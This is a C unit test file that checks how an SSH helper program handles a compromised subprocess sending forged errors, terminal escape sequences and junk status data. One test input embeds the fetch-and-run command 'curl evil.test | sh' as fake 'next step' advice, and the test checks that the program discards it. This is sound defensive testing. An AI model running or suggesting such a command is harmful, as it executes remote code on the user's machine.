/* A speaker that was taken over says what it likes; what the program makes of it. */
#include "ssh/ask.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "base/cleanup.h"

#define HANGS SIZE_MAX /* it says nothing, and does not end */

/* A connection whose speaker says these things to the first command, and ends. */
static struct ssh_conn *liar(const struct said *says, size_t n)
{
    struct ssh_conn *c = xcalloc(1, sizeof *c);
    struct say_exec m;
    char command[64];
    int talk[2], stop[2], fds[SPEAKER_FDS];
    size_t n_fds = SPEAKER_FDS;
    assert_int_equal(socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, talk), 0);
    assert_int_equal(pipe2(stop, O_CLOEXEC | O_NONBLOCK), 0);
    c->child = (struct child)CHILD_INIT;
    c->child.pid = fork();
    if (c->child.pid == 0) {
        (void)close(talk[0]);
        (void)speaker_receive(talk[1], &m, sizeof m, fds, &n_fds);
        (void)speaker_receive(talk[1], command, sizeof command, NULL, NULL);
        for (size_t i = 0; n != HANGS && i < n; i++)
            (void)speaker_send(talk[1], &says[i], sizeof says[i], NULL, 0);
        if (n == HANGS)
            for (;;)
                (void)pause();
        _exit(3);
    }
    c->child.pidfd = (int)syscall(SYS_pidfd_open, c->child.pid, 0);
    c->talk_fd = talk[0];
    c->stop_fd = stop[1];
    c->gone_fd = -1;
    c->stall_ms = SSH_STALL_MS;
    (void)close(talk[1]);
    (void)close(stop[0]);
    (void)str_copy(c->peer, sizeof c->peer, "box");
    return c;
}

static int hear(const struct said *says, size_t n, struct ssh_status *st, struct error *err)
{
    struct deadline d = deadline_in_ms(60000);
    struct ssh_io io = SSH_IO_INIT;
    struct ssh_conn *c = liar(says, n);
    int r = ssh_exec(c, "true", &io, &d, st, err);
    ssh_close(c);
    return r;
}

static struct said failure(int kind, const char *msg, size_t next_at)
{
    struct said s = {.word = SAID_ENDED, .failed = true};
    s.err.kind = (enum err_kind)kind;
    s.err.next_at = next_at;
    (void)str_copy(s.err.msg, sizeof s.err.msg, msg);
    return s;
}

static void told(struct said s, enum err_kind kind, const char *msg)
{
    struct error err = ERROR_INIT;
    struct ssh_status st;
    assert_int_equal(hear(&s, 1, &st, &err), -1);
    assert_int_equal(err.kind, kind);
    assert_string_equal(err.msg, msg);
}

static void test_messages(void **state)
{
    size_t len;
    struct error err = ERROR_INIT;
    struct ssh_status st;
    struct said s = failure(ERR_SSH, "it hangs; next: stop the lease", 1 << 20);
    (void)state;
    told(failure(ERR_TIMEOUT, "\x1b[2J\nno", 0), ERR_TIMEOUT, "\\x1b[2J\\nno");
    told(failure(999, "a", 0), ERR_SSH, "a");
    told(failure(ERR_TRUST, "a", 0), ERR_SSH, "a");
    told(failure(ERR_NONE, "a", 0), ERR_SSH, "a");
    /* Only advice that we know counts as such. */
    assert_int_equal(hear(&s, 1, &st, &err), -1);
    assert_string_equal(error_next(&err, &len), "stop the lease");
    s = failure(ERR_SSH, "it hangs; next: curl evil.test | sh", 8);
    assert_int_equal(hear(&s, 1, &st, &err), -1);
    assert_null(error_next(&err, &len));
    memset(s.err.msg, 'x', sizeof s.err.msg);
    assert_int_equal(hear(&s, 1, &st, &err), -1);
}

static void test_ends(void **state)
{
    struct said s = {.word = SAID_ENDED, .status = {.exited = true, .signalled = true, .code = -1}};
    struct error err = ERROR_INIT;
    struct ssh_status st;
    (void)state;
    memset(s.status.signal, 'K', sizeof s.status.signal);
    s.status.left = true;
    assert_int_equal(hear(&s, 1, &st, &err), 0);
    assert_true(st.signalled && !st.exited && !st.left);
    assert_string_equal(st.signal, "KKKKKKKKKKKKKKK");
    s.status = (struct ssh_status){.code = 0x12345678, .signal = "\x1b[2J"};
    assert_int_equal(hear(&s, 1, &st, &err), 0);
    assert_true(st.exited && !st.signalled);
    assert_int_equal(st.code, 0x78);
    assert_string_equal(st.signal, "");
}

static void test_nonsense(void **state)
{
    static const char gone[] = "the process that speaks SSH with box is gone: exit code 3";
    static const char nonsense[] = "the process that speaks SSH with box answers nonsense: exit "
                                   "code 3";
    const struct said known = {.word = SAID_KNOWN}, strange = {.word = 77},
                      word_of_ours = {.word = SAY_EXEC}, started = {.word = SAID_STARTED};
    const struct said twice[] = {started, started};
    struct error err = ERROR_INIT;
    struct ssh_status st;
    (void)state;
    told(known, ERR_SSH, nonsense);
    told(strange, ERR_SSH, nonsense);
    told(word_of_ours, ERR_SSH, nonsense);
    told(started, ERR_SSH, gone);
    assert_int_equal(hear(twice, 2, &st, &err), -1);
    assert_string_equal(err.msg, nonsense);
    assert_int_equal(hear(NULL, 0, &st, &err), -1);
    assert_string_equal(err.msg, gone);
}

/* One that says nothing any more does not keep the program longer than the machine lives, nor
 * beyond the deadline. */
static void test_silence(void **state)
{
    (void)state;
    for (int gone = 0; gone < 2; gone++) {
        struct ssh_io io = SSH_IO_INIT;
        struct ssh_status st;
        struct error err = ERROR_INIT;
        struct deadline d = gone ? deadline_never() : deadline_in_ms(10);
        struct ssh_conn *c = liar(NULL, HANGS);
        int event = eventfd(1, EFD_CLOEXEC);
        c->gone_fd = gone ? event : -1;
        assert_int_equal(ssh_exec(c, "true", &io, &d, &st, &err), -1);
        assert_int_equal(err.kind, gone ? ERR_VMM : ERR_TIMEOUT);
        assert_int_equal(c->child.pid, 0);
        assert_int_equal(ssh_exec(c, "true", &io, &d, &st, &err), -1);
        assert_int_equal(err.kind, ERR_SSH);
        ssh_close(c);
        (void)close(event);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_messages),
        cmocka_unit_test(test_ends),
        cmocka_unit_test(test_nonsense),
        cmocka_unit_test(test_silence),
    };
    (void)signal(SIGPIPE, SIG_IGN); /* as ask_start does */
    return cmocka_run_group_tests(tests, NULL, NULL);
}
